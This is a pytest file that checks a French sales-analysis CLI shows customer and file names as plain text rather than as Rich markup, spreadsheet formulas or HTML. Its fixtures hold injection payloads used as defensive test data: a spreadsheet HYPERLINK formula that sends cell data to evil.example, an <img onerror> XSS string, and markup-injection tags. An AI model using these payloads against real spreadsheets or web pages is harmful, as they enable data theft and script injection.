"""Data shown as written: by the command line, never read as Rich markup (a
customer, a file or a recipient whose name holds brackets, ``[/bold]``,
``[link=…]``, neither breaks a command, Rich's ``MarkupError``, nor restyles its
output, in the tables and in the lines around them); in the workbooks (the
report, the action plan), never a formula (a customer named ``=HYPERLINK(…)``
is a text a spreadsheet shows, not one it runs); in the HTML report, escaped."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from clientfolio import cli
from clientfolio.cli._common import DataConsole, DataTable

EVIL = "[/bold] Evil [red]SAS"
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2;"Ouvrir")'
TAG = "<img src=x onerror=alert(1)> SARL"
LINKED = "Normal [link=http://evil.example]clic[/link]"


@pytest.fixture(autouse=True)
def wide_consoles(monkeypatch: pytest.MonkeyPatch) -> None:
    """The run's consoles as the command makes them, wide (the width of a console made at import
    is whatever ``COLUMNS`` said then)."""
    monkeypatch.setattr(cli, "console", DataConsole(width=250, color_system=None))
    monkeypatch.setattr(cli, "errors", DataConsole(width=250, color_system=None, stderr=True))


def run(*args: str) -> Result:
    env = {"CLIENTFOLIO_LANG": "fr", "COLUMNS": "250", "NO_COLOR": "1", "CLIENTFOLIO_CLV__BOOTSTRAP_SAMPLES": "20"}
    return CliRunner().invoke(cli.app, list(args), env=env)


def imported(tmp_path: Path, name: str, text: str) -> str:
    """The URL of a new store holding the sales file ``name`` of ``text``, imported."""
    url = f"sqlite:///{tmp_path}/m.db"
    sales = tmp_path / name
    sales.write_text(text, encoding="utf-8")
    done = run("import", str(sales), "--db", url)
    assert done.exit_code == 0, done.output
    return url


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = imported(
        tmp_path,
        "[red]ventes.csv",
        "code client;raison sociale;numéro de facture;date;montant HT\n"
        f"C1;{EVIL};F1;15/01/2024;1000,00\n"
        f"C2;{LINKED};F2;16/01/2024;50,00\n"
        f"C1;{EVIL};F3;15/05/2024;800,00\n"
        f'C3;"{FORMULA.replace(chr(34), chr(34) * 2)}";F4;15/05/2024;900,00\n'
        f"C3;;F5;15/06/2023;900,00\n"
        f"C4;{TAG};F6;15/06/2023;40,00\n",
    )
    again = run("import", str(tmp_path / "[red]ventes.csv"), "--db", url)
    assert "[red]ventes.csv" in again.output  # already imported: the file named as written
    return url


@pytest.mark.parametrize("command", [("value",), ("activity",), ("plan", "suggest")])
def test_names_with_brackets_are_shown_as_written(db: str, command: tuple[str, ...]) -> None:
    result = run(*command, "--db", db)
    assert result.exit_code == 0, result.output
    assert EVIL in result.output and "\\[" not in result.output


def test_a_table_of_errors_shows_the_bad_values_as_written(db: str, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("code client;numéro de facture;date;montant HT\nC1;F9;[/x]15/01/2024;10\n", encoding="utf-8")
    result = run("import", str(bad), "--db", db)
    assert result.exit_code != 0 and "[/x]15/01/2024" in result.output, result.output


def test_the_workbooks_hold_no_formula_and_the_html_no_tag(db: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = tmp_path / "revue.xlsx"
    made = run("report", "--format", "xlsx", "--out", str(report), "--recipient", "interne", "--db", db)
    assert made.exit_code == 0, made.output
    accepted = run("plan", "suggest", "--accept", "all", "--db", db)
    assert accepted.exit_code == 0, accepted.output
    plan = tmp_path / "pac.xlsx"
    assert run("plan", "export", "--year", "2024", "--out", str(plan), "--db", db).exit_code == 0
    for path in (report, plan):
        cells = [c for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        assert any(isinstance(c.value, str) and FORMULA in c.value for c in cells), path  # the name, as text
    html = tmp_path / "revue.html"
    assert run("report", "--format", "html", "--out", str(html), "--recipient", "interne", "--db", db).exit_code == 0
    page = html.read_text(encoding="utf-8")
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt; SARL" in page


def test_a_product_line_or_a_segment_with_brackets_heads_a_column_as_written(tmp_path: Path) -> None:
    url = imported(
        tmp_path,
        "ventes.csv",
        "code client;raison sociale;numéro de facture;date;code article;désignation;gamme;montant HT\n"
        f"C1;Client SA;F1;15/01/2024;P1;Vis;{EVIL} Gamme;100,00\n"
        f"C2;Autre SA;F2;15/05/2024;P1;Vis;{EVIL} Gamme;80,00\n",
    )
    result = run("analyze", "--db", url)
    assert result.exit_code == 0, result.output
    assert f"{EVIL} Gamme" in result.output  # the segment x product line grid's column


def test_a_tables_title_and_caption_and_a_line_are_shown_as_written() -> None:
    console = DataConsole(width=120, color_system=None, record=True)
    table = DataTable(title=f"{EVIL} title", caption=f"{EVIL} caption")
    table.add_column(f"{EVIL} column")
    table.add_row(f"{EVIL} cell")
    console.print(table)
    console.print(f"{EVIL} line")
    shown = console.export_text()
    for part in ("title", "caption", "column", "cell", "line"):
        assert f"{EVIL} {part}" in shown, part
    assert "\\[" not in shown
